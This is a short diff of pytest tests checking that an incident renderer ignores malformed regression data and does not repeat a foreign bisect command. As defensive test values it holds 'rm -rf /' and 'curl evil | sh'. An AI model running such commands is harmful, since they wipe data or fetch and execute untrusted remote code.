@@ -67,7 +67,7 @@ def test_suspected_regression_names_the_bisect_command(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize(
     "regression",
-    [None, "yes", {"suspected": "true"}, {"suspected": False}, [], {"command": "rm -rf /"}],
+    [None, "yes", {"suspected": "true"}, {"suspected": False}, [], {"bisect_command": "rm -rf /"}],
     ids=["none", "string", "truthy-string", "false", "list", "no-flag"],
 )
 def test_regression_section_is_read_defensively(tmp_path: Path, regression: Any) -> None:
@@ -79,7 +79,7 @@ def test_regression_section_is_read_defensively(tmp_path: Path, regression: Any)
 
 def test_a_foreign_bisect_command_is_not_repeated(tmp_path: Path) -> None:
     intent, data = _written(tmp_path)
-    data = {**data, "regression": {"suspected": True, "command": "curl evil | sh"}}
+    data = {**data, "regression": {"suspected": True, "bisect_command": "curl evil | sh"}}
     body = render_incident(intent, data, samples.T0).body
     assert "curl" not in body and f"oom-bisect {data['id']}" in body
 
